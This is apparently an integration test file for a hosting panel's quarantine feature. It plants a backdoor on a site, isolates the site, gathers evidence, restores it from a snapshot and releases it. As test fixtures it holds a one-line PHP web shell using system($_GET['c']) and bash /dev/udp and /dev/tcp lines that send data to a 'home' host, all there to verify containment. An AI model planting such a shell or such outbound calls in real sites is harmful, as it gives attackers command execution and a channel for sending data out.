"""A site that somebody broke into, on real hosts: isolated, looked at, repaired, released."""

import json
from collections.abc import Iterator

import pytest
import requests

from tests.hosting.live import PAGES, LiveSite, in_panel, neighbours
from tests.panel import Api, Panel, fresh_name, kill_workers, on_host, wait_until

pytestmark = pytest.mark.lab

TABLE = "quarantine_test"


class Owned:
    """A site with a backdoor that calls home by UDP all the time, and a neighbour of another member."""

    def __init__(self, panel: Panel) -> None:
        self.panel = panel
        self.site, self.neighbour = neighbours(panel)
        self.host = self.site.host
        self.staff = panel.api()
        self.home = panel.edges[0]

    def break_in(self) -> None:
        """Put the backdoor there, start it, and count what leaves the host for its home."""
        self.count()
        self.site.put("web/owned.php", (PAGES / "owned.php").read_text())
        assert self.site.shows("owned", f"/owned.php?home={self.home}")
        wait_until(lambda: self.packets() > 2, 20, what="the backdoor calls home")

    def count(self) -> None:
        rules = (
            f"table inet {TABLE} {{ chain out {{ type filter hook output priority 100; policy accept;\n"
            f"ip daddr {self.home} udp dport 9 counter\n}}\n}}\n"
        )
        on_host(self.host, "nft", "-f", "-", input=rules)

    def packets(self) -> int:
        """How many packets for the backdoor's home have left the host."""
        listing = json.loads(on_host(self.host, "nft", "-j", "list", "table", "inet", TABLE))["nftables"]
        rule = next(part["rule"] for part in listing if "rule" in part)
        return int(next(part["counter"]["packets"] for part in rule["expr"] if "counter" in part))

    def processes(self) -> str:
        return on_host(self.host, "sh", "-c", f"pgrep -a -u {self.site.uid} || true")

    def isolate(self, **fields: object) -> dict:
        data = {"reason": "It sends spam.", **fields}
        return self.staff.wait(self.staff.post(f"{self.site.path}isolate/", data))

    def release(self) -> dict:
        return self.staff.wait(self.staff.post(f"{self.site.path}release/"))

    def closed(self) -> bool:
        answers = self.site.open()
        return all(answer.status_code == 503 and "repair" in answer.text for answer in answers)

    def clean_up(self) -> None:
        on_host(self.host, "nft", "delete", "table", "inet", TABLE, check=False)
        if self.site.read()["quarantined"]:
            self.release()


@pytest.fixture
def owned(panel: Panel) -> Iterator[Owned]:
    owned = Owned(panel)
    owned.break_in()
    yield owned
    owned.clean_up()


def test_a_compromised_site_is_isolated_and_released(owned: Owned) -> None:
    site, neighbour = owned.site, owned.neighbour
    assert neighbour.shows(neighbour.name)
    before = on_host(owned.host, "systemctl", "show", "-P", "MainPID", f"site@{neighbour.id}.service")

    operation = owned.isolate()

    assert [step["state"] for step in operation["steps"]] == ["succeeded"] * len(operation["steps"])
    read = site.read()
    assert (read["quarantined"], read["state"]) == (True, "quarantined")
    assert owned.closed()
    for answer in site.open(headers={"Accept-Language": "es"}):
        assert "reparaciones" in answer.text
        assert answer.headers["Cache-Control"] == "no-store"
    assert owned.processes() == ""
    # What left the host before is all that ever does.
    left = owned.packets()
    wait_until(lambda: site.shell("echo x > /dev/tcp/127.0.0.1/22", check=False) == "", 5)
    site.shell(f"bash -c 'echo x > /dev/udp/{owned.home}/9'", check=False)
    assert owned.packets() == left

    # The evidence has the process, its connection and its file, and no secret.
    found = owned.staff.get(f"{site.path}evidence/")[0]["content"]
    backdoor = next(one for one in found["processes"] if "backdoor" in one["command"])
    assert backdoor["name"] == "bash"
    assert "hunter2" not in json.dumps(found)
    processes = {one["pid"] for one in found["processes"]}
    assert f"{owned.home}:22" in {one["remote"] for one in found["connections"] if one["pid"] in processes}
    assert any("owned.php" in log["text"] for log in found["logs"] if log["name"] == "access.log")
    site.api.request("GET", f"{site.path}evidence/", 403)

    # Nobody else on the host is touched.
    assert neighbour.shows(neighbour.name)
    assert on_host(owned.host, "systemctl", "show", "-P", "MainPID", f"site@{neighbour.id}.service") == before

    # A resync keeps it as it is, and so does what its owner may still change.
    in_panel(
        "from controlpanel.fleet.models import Host; from controlpanel.fleet import services\n"
        f"services.resync([Host.objects.get(name={owned.host!r})])"
    )
    site.edit(php_workers=3)
    assert owned.closed()
    assert owned.processes() == ""
    assert site.read()["quarantined"]

    owned.release()
    read = site.read()
    assert (read["quarantined"], read["state"]) == (False, "active")
    assert site.shows(site.name)
    assert "x" in site.shell(f"bash -c 'echo x > /dev/udp/{owned.home}/9 && echo x'")
    assert on_host(owned.host, "nft", "list", "table", "inet", "controlpanel_isolation", check=False) == ""


def test_a_worker_that_dies_in_the_middle_changes_nothing(owned: Owned) -> None:
    answer = owned.staff.post(f"{owned.site.path}isolate/", {"reason": "It sends spam."})
    wait_until(lambda: owned.staff.operation(answer)["state"] != "queued", 10, every=0.01)
    kill_workers()
    owned.staff.wait(answer, seconds=90)
    assert owned.closed()
    assert owned.processes() == ""
    assert owned.staff.get(f"{owned.site.path}evidence/")


@pytest.fixture
def broken(panel: Panel) -> Iterator[tuple[LiveSite, Api]]:
    """A site for staff to repair, and its owner’s API; never left in quarantine, with its owner locked out."""
    site = LiveSite.create(panel)
    owner, site.api = site.api, panel.api()
    yield site, owner
    if site.read()["quarantined"]:
        site.do("release")


def test_a_site_is_repaired_in_its_clean_room(panel: Panel, broken: tuple[LiveSite, Api]) -> None:
    """Compared with the last snapshot, put right, and looked at, while the public sees the page."""
    (site, owner), staff = broken, panel.api()
    site.put("web/index.php", "mine <?= 1 + 1;")
    site.put("web/kept.txt", "kept")
    site.do("snapshots")
    snapshot = site.api.get(f"{site.path}snapshots/")[0]["id"]
    site.put("web/index.php", "owned <?= 1 + 1;")
    site.put("web/shell.php", "<?php system($_GET['c']);")
    on_host(site.host, "rm", f"{site.root}/web/kept.txt")
    site.do("isolate", {"reason": "It sends spam.", "block_logins": True})
    site.do("room")
    address = staff.get(f"{site.path}room/")["address"]
    entrance = address.partition(site.name)[2]

    # The public sees the page; so does who guesses, and who tries the room of another site.
    assert site.statuses() == {503}
    assert site.statuses(f"{entrance[:-1]}x") == {503}
    for answer in site.open(headers={"X-Forwarded-Room": "open", "Cookie": "controlpanel_room=guessed"}):
        assert answer.status_code == 503
    for edge in panel.edges:
        with requests.Session() as visitor:
            answer = visitor.get(f"http://{edge}{entrance}", headers={"Host": site.name}, allow_redirects=False)
            assert (answer.status_code, answer.headers["Location"]) == (303, "/")
            cookie = answer.headers["Set-Cookie"].partition(";")[0]
        inside = panel.fetch(edge, site.name, headers={"Cookie": f"other=1; {cookie}"})
        assert (inside.status_code, inside.text) == (200, "owned 2")
        assert panel.fetch(edge, site.name, headers={"Cookie": cookie + "x"}).status_code == 503
    logs = on_host(site.host, "sh", "-c", f"cat /var/log/sites/{site.id}/*.log; journalctl -u 'room@{site.id}*'")
    assert cookie.partition("=")[2] not in logs
    # Its programs run there without a network.
    site.put("web/call.php", "<?= @fsockopen('udp://127.0.0.1', 9) && @fwrite(fsockopen('udp://127.0.0.1', 9), 'x');")
    assert panel.fetch(panel.edges[0], site.name, "/call.php", headers={"Cookie": cookie}).text in ("", "0")
    on_host(site.host, "rm", f"{site.root}/web/call.php")
    # The tokens of its owners open nothing.
    owner.request("GET", site.path, 401)

    found = {one["path"]: one["what"] for one in staff.get(f"{site.path}changes/", snapshot=snapshot)["differences"]}
    found = {path: what for path, what in found.items() if path.startswith("web/")}
    assert found == {"web/index.php": "changed", "web/kept.txt": "removed", "web/shell.php": "added"}
    data = {"snapshot": snapshot, "paths": ["web/index.php"]}
    staff.wait(staff.post(f"{site.path}restore-files/", data))
    # PHP looks every two seconds whether a file it has compiled is another now.
    room = {"Cookie": cookie}
    wait_until(lambda: panel.fetch(panel.edges[0], site.name, headers=room).text == "mine 2", 10)
    staff.wait(staff.post(f"{site.path}restore-files/", {"snapshot": snapshot, "everything": True}))
    left = staff.get(f"{site.path}changes/", snapshot=snapshot)["differences"]
    assert {one["what"] for one in left} <= {"touched"}  # the same content, written just now
    assert site.stat("%u %a", "web/kept.txt") == f"{site.stat('%u')} 644"

    staff.wait(staff.delete(f"{site.path}room/"))
    assert panel.fetch(panel.edges[0], site.name, headers={"Cookie": cookie}).status_code == 503
    staff.wait(staff.post(f"{site.path}release/"))
    assert site.shows("mine 2")
    assert site.shows("kept", "/kept.txt")
    assert owner.get(site.path)["state"] == "active"


def test_members_isolate_nothing(panel: Panel) -> None:
    site = LiveSite.create(panel, fresh_name(), kind="static")
    site.api.request("POST", f"{site.path}isolate/", 403, json={"reason": "x"})
    panel.api(panel.members[1]).request("POST", f"{site.path}isolate/", 404, json={"reason": "x"})
